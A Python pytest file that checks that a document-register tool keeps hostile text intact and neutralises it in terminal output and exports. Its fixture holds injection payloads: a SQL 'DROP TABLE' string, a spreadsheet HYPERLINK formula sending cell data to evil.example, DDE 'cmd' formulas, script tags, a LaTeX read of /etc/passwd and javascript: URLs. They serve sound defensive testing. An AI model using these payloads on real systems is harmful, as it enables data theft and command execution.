"""Hostile text from the file to the register, the terminal and every export: kept faithfully, or refused clearly."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from tests.fake import FakeReader, value

from mithaq.cli.main import main
from mithaq.export import FORMATS
from mithaq.export.table import _FORMULA
from mithaq.model.claims import Claim, Evidence
from mithaq.model.documents import Document
from mithaq.model.readings import Reading
from mithaq.model.spans import Span
from mithaq.register import Register

RANDOM = random.Random(5)
LONG = "".join(RANDOM.choices("abcdefghijklmnopqrstuvwxyzابتثجحخ ", k=40_000))
ITEMS = {
    "sql": "'); DROP TABLE documents; --",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "command": "@SUM(1+9)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "wide": "＝2+2",
    "tab": "\t=1+1",
    "markup": "</script><script>alert(1)</script> & \"quotes\" 'single' ]]> <!-- %s {0} \\",
    "latex": "\\input{/etc/passwd} 50% {_} #&$~^",
    "newlines": "a\rb\nc\r\nd\u2028e\u0085f",
    "marks": "\u202eevil\u202c \u200f\u200d e\u0301 \ufeff \U0001f680",
    "escape": "\x1b[31mred\x07\x9b",
    "long": LONG,
    "digits": "9" * 400,
}
SALE = re.compile(r"US sells (\d+) «(.*?)» to MA", re.DOTALL)


class Hostile(FakeReader):
    """Reads what stands between the quotation marks as an item, whatever it is."""

    def __call__(self, document: Document) -> Reading:
        claims = []
        for found in SALE.finditer(document.text):
            text, span = found[2].strip() or found[2], Span(*found.span())
            slots = {
                "item": (value(document.text, text, name=text),),
                "quantity": (value(document.text, found[1], value=int(found[1]), qualifier="exact"),),
                "supplier": (value(document.text, "US", id="US", name="United States"),),
                "recipient": (value(document.text, "MA", id="MA", name="Morocco"),),
            }
            evidence = (Evidence(span, span.of(document.text)),)
            claims.append(Claim("transfer", document.id, slots, evidence, confidence=0.9, rule="fake"))
        return Reading(tuple(claims), (), "2024-05-01", "en")


def run(*arguments: str, code: int = 0) -> Any:
    result = CliRunner().invoke(main, arguments)
    assert result.exit_code == code, (result.output[-3000:], result.exception)
    return result


@pytest.fixture
def filled(target: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setattr("mithaq.pipeline.Reader", Hostile)
    monkeypatch.chdir(tmp_path)
    rows = [
        {"id": f"{name} '\"<&=\t;", "text": f"US sells {'9' * 400 if name == 'digits' else 7} «{item}» to MA.",
         "title": item[:300], "publisher": item[:300], "url": f"javascript:alert('{name}')", "language": "en"}
        for name, item in ITEMS.items()
    ]  # fmt: skip
    rows.append({"id": "nul\0\ud800", "text": "US sells 5 «Nul\0 and \ud800 half» to MA.\r\nNext\rline\n"})
    rows.append({"id": "n" * 5_000, "text": "US sells 5 «Tank» to MA."})
    Path("docs").mkdir()
    Path("docs/x.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    Path("docs/raw.txt").write_bytes(b"US sells 5 \xc2\xabRaw\x00 item\xc2\xbb to MA.\r\nB\rC\n")
    result = run("read", "docs", "--register", target, code=1)
    assert (
        "raw.txt holds binary data" in result.output
        and "has 5,000 characters" in result.output
        and "Traceback" not in result.output
    )
    return target


def test_hostile_text_is_kept_and_shown_faithfully(filled: str) -> None:
    with Register(filled) as register:
        assert not register.problems()
        read = {document.id: document.text for document in register.documents()}
        claims = list(register.claims())
        assert len(read) == len(claims) == len(ITEMS) + 1 and "n" * 5_000 not in read
        items = {claim.document: claim.slots["item"][0].text for claim in claims}
        for name, item in ITEMS.items():
            assert items[f"{name} '\"<&=\t;"] == item.strip(), name
        assert not any("\0" in text or re.search("[\ud800-\udfff]", text) for text in read.values())
        assert {"D014"} <= {issue.code for issue in register.issues()}
        records = list(register.records())
        assert len(list(register.records(item=ITEMS["sql"]))) == 1 and not list(register.records(item="x' OR 1=1 --"))
        assert register.record("r_%") is None and len(register.search("half")) == 1
    for record in records:
        page = run("show", record.id, "--register", filled).output
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", page), "a control character reaches the terminal"
    table = run("show", "--register", filled).output
    assert f"{len(records)} records" in table and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", table)
    for verb in (["timeline"], ["stats"], ["search", "calc"], ["brief", "US", "MA"]):
        output = run(*verb, "--register", filled).output
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", output), verb


def test_every_export_holds_hostile_text_without_harm(filled: str) -> None:
    for form in FORMATS:
        if form not in ("xlsx", "parquet"):
            run("export", "--register", filled, "--format", form, "--to", f"out.{form}")
    names = {item.strip() for item in ITEMS.values()}
    told = [json.loads(line) for line in Path("out.jsonl").read_text(encoding="utf-8").splitlines() if line]
    assert names <= {record["slots"]["item"]["name"] for record in told}
    for form in ("csv", "sipri", "dcad"):
        rows = list(csv.reader(io.StringIO(Path(f"out.{form}").read_text(encoding="utf-8"), newline="")))
        assert len({len(row) for row in rows}) == 1
        for cell in (cell for row in rows[1:] for cell in row):
            assert not cell.startswith(_FORMULA) or re.fullmatch(r"-?[\d.]+", cell), (form, cell[:50])
    for form in ("graphml", "gexf"):
        ET.fromstring(Path(f"out.{form}").read_bytes())
    graph = json.loads(Path("out.jsonld").read_text(encoding="utf-8"))["@graph"]
    assert not [node for node in graph if str(node.get("schema:url", "")).startswith("javascript:")]
    assert "javascript:" not in Path("out.bibtex").read_text() + Path("out.csl-json").read_text()
    for form in ("ftm", "ftm-statements", "plover"):
        for line in Path(f"out.{form}").read_text(encoding="utf-8").split("\n"):
            assert not line or json.loads(line)
    assert len(json.loads(Path("out.csl-json").read_text(encoding="utf-8"))) == len(ITEMS) + 1
    pybtex = pytest.importorskip("pybtex.database")
    assert len(pybtex.parse_file("out.bibtex", "bibtex").entries) == len(ITEMS) + 1
    run("brief", "US", "MA", "--register", filled, "--to", "b.html")
    page = Path("b.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page and "javascript:alert" not in page


def test_workbook_and_parquet_hold_hostile_text_without_harm(filled: str) -> None:
    openpyxl, parquet = pytest.importorskip("openpyxl"), pytest.importorskip("pyarrow.parquet")
    for form in ("xlsx", "parquet"):
        run("export", "--register", filled, "--format", form, "--to", f"out.{form}")
    book = openpyxl.load_workbook("out.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"] and max(len(str(c.value)) for c in cells) <= 32_767
    assert ITEMS["formula"] in {cell.value for cell in cells}
    rows = parquet.read_table("out.parquet").to_pylist()
    held = {value["name"] for row in rows for value in row["slot_item"]}
    assert {item.strip() for item in ITEMS.values()} <= held
    assert float("inf") in {value["number"] for row in rows for value in row["slot_quantity"]}


def test_frames_hold_vast_figures(filled: str) -> None:
    polars = pytest.importorskip("polars")
    with Register(filled) as register:
        frame = register.to_polars()
        assert frame["quantity"].dtype == polars.Float64 and max(frame["quantity"]) == float("inf")
